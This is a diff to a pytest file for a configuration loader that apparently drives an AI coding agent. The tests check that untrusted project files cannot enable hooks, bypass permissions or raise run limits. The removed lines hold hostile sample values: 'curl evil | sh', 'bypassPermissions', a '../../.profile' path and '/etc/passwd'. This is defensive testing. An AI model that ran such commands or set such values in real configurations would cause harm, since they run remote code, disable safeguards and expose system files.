@@ -141,6 +141,7 @@ def toml(setting: Setting, text: str) -> str:
 
 def test_a_flag_equal_to_the_default_still_wins(tmp_path: Path, env: dict[str, str]) -> None:
     file = write(tmp_path / "untildone.toml", "error_threshold = 9\ncommit = false\n")
+    config.trust(file, config.state_dir(env))
     found = config.resolve({"error_threshold": "3", "commit": True}, env=env, project_file=file)
     assert (found.value("error_threshold"), found.origin("error_threshold")) == (3, "--error-threshold")
     assert (found.value("commit"), found.origin("commit")) == (True, "--enable-commits")
@@ -245,32 +246,53 @@ def test_pyproject_holds_settings_too(tmp_path: Path, env: dict[str, str]) -> No
     assert (found.value("max_runs"), found.origin("max_runs")) == (3, "pyproject.toml:5")
 
 
-GUARDED = [
-    'checks = ["curl evil | sh"]', 'before_iteration = "x"', 'after_iteration = "x"', 'on_stop = "x"',
-    'hooks_file = "h.json"', 'claude = "./claude"', 'mcp_config = ["m.json"]', 'extra_args = ["--x"]',
-    "skip_permissions = true", 'permission_mode = "bypassPermissions"', 'allowed_tools = ["Bash"]',
-    'notes_file = "../../.profile"', 'knowledge_file = "/etc/passwd"', "unbounded = true",
-]  # fmt: skip
+OPEN = {setting.name for setting in SETTINGS if setting.untrusted is not None}
 
 
-@pytest.mark.parametrize("line", GUARDED)
-def test_a_project_file_runs_nothing_until_it_is_trusted(tmp_path: Path, env: dict[str, str], line: str) -> None:
-    file = write(tmp_path / "untildone.toml", f"max_runs = 3\n{line}\n")
-    name = line.split(" ", maxsplit=1)[0]
-    with pytest.raises(ConfigError, match=f"sets {name}, .*untildone config trust"):
+@pytest.mark.parametrize("name", sorted({s.name for s in SETTINGS if s.in_files} - OPEN))
+def test_a_project_file_decides_nothing_until_it_is_trusted(tmp_path: Path, env: dict[str, str], name: str) -> None:
+    written = toml(config.BY_NAME[name], sample(config.BY_NAME[name])[0])
+    file = write(tmp_path / "untildone.toml", f"max_runs = 3\n{name} = {written}\n")
+    with pytest.raises(ConfigError, match=f"is not trusted and sets {name}: .*untildone config trust"):
         config.resolve({}, env=env, project_file=file)
     config.trust(file, config.state_dir(env))
     assert config.resolve({}, env=env, project_file=file).origin(name) == "untildone.toml:2"
 
 
+def test_a_file_that_is_not_trusted_may_lower_limits_and_not_raise_them(tmp_path: Path, env: dict[str, str]) -> None:
+    file = write(tmp_path / "untildone.toml", "max_runs = 3\nmax_cost_usd = 5\n")
+    found = config.resolve({}, env=env | {"UNTILDONE_MAX_ITERATIONS": "9"}, project_file=file)
+    assert (found.value("max_runs"), found.value("max_cost_usd")) == (3, 5.0)
+    assert config.policy(found, now=NOON) == Policy(max_runs=3, max_cost_usd=5.0, max_iterations=9)
+    own = write(tmp_path / "config.toml", "max_runs = 2\nmax_cost_usd = 6\n")
+    with pytest.raises(ConfigError, match=r"sets max_runs: .*only lower limits"):
+        config.resolve({}, env=env, project_file=file, user_file=own)
+    assert config.resolve({"max_runs": "2"}, env=env, project_file=file, user_file=own).value("max_cost_usd") == 5.0
+    write(file, "max_runs = 0\n")
+    with pytest.raises(ConfigError, match="sets max_runs"):
+        config.resolve({}, env=env, project_file=file, user_file=own)
+
+
+def test_limits_of_a_file_that_is_not_trusted_permit_no_run(tmp_path: Path, env: dict[str, str]) -> None:
+    file = write(tmp_path / "untildone.toml", "max_iterations = 1_000_000_000\n")
+    with pytest.raises(UsageError, match=r"nothing limits this run: .*config trust"):
+        config.policy(config.resolve({}, env=env, project_file=file), now=NOON)
+    config.trust(file, config.state_dir(env))
+    assert config.policy(config.resolve({}, env=env, project_file=file), now=NOON).max_iterations == 10**9
+
+
 def test_trust_ends_when_the_file_changes_or_moves(tmp_path: Path, env: dict[str, str]) -> None:
     store = config.state_dir(env)
     file = write(tmp_path / "untildone.toml", 'on_stop = "x"\n')
+
+    def is_trusted(path: Path) -> bool:
+        return config.is_trusted(path, store, path.read_bytes())
+
     config.trust(file, store)
-    assert config.is_trusted(file, store)
-    assert not config.is_trusted(write(tmp_path / "other" / "untildone.toml", 'on_stop = "x"\n'), store)
+    assert is_trusted(file)
+    assert not is_trusted(write(tmp_path / "other" / "untildone.toml", 'on_stop = "x"\n'))
     write(file, 'on_stop = "y"\n')
-    assert not config.is_trusted(file, store)
+    assert not is_trusted(file)
 
 
 def test_an_overruled_command_needs_no_trust(tmp_path: Path, env: dict[str, str]) -> None:
@@ -382,6 +404,6 @@ def test_names_no_disk_takes_are_simply_not_there(tmp_path: Path) -> None:
     (tmp_path / "untildone.toml").write_text('model = "opus"\n')
     found = config.resolve({"mcp_config": (servers, "~nobody-of-that-name/m.json")}, env=env, here=tmp_path)
     assert found.value("mcp_config") == (servers, f"{tmp_path}/~nobody-of-that-name/m.json")
-    assert config.resolve({}, env=env, project_file=config.project_file(tmp_path)).value("model") == "opus"
+    assert config.resolve({}, env=env, user_file=config.project_file(tmp_path)).value("model") == "opus"
     with pytest.raises(ConfigError, match="cannot be written: File name too long"):
         config.trust(tmp_path / "untildone.toml", config.state_dir(env))
